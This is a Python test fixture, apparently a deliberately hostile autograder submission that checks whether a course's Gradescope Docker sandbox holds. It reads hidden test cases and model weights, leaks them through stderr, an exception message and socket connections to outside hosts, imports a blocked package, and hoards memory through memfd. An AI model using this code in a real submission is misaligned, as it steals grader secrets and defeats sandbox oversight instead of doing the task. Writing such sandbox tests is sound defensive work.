# The hostile submission of `make gradescope-docker` (course/grading/gradescope_docker.py appends
# this to the bare handout's tests/adapters.py): every way out it can think of, then nothing
# implemented. It tries to read the hidden inputs and expected values, to send them out through
# its error message, printed text and the network, to borrow a blocked package and to hold
# memory the watchdog cannot see; "GOT-" in a result means one of them worked.
import glob
import json
import os
import socket
import sys

_found = []
for _pattern in (
    "/autograder/source/course/cases/hidden/*/*/*",
    "/autograder/**/*.safetensors",
    os.path.join(os.path.dirname(sys.argv[0]), "..", "inputs", "*", "*"),
):
    for _path in glob.glob(_pattern, recursive=True):
        try:
            with open(_path, "rb") as _stream:
                _found.append(_stream.read(64).hex())
        except OSError:
            pass
print("LEAK", _found, file=sys.stderr)
for _address in (("1.1.1.1", 53), ("pypi.org", 443)):
    try:
        socket.create_connection(_address, timeout=3).sendall(repr(_found).encode())
        _found.append("GOT-network")
    except OSError:
        pass
try:
    import tiktoken  # noqa: F401  (blocked: the grading policy)

    _found.append("GOT-tiktoken")
except ImportError:
    pass
try:
    _memory = os.memfd_create("hoard")
    os.ftruncate(_memory, 2**31)
    _found.append("GOT-memfd")
except OSError:
    pass
raise RuntimeError("LEAK " + json.dumps(_found))
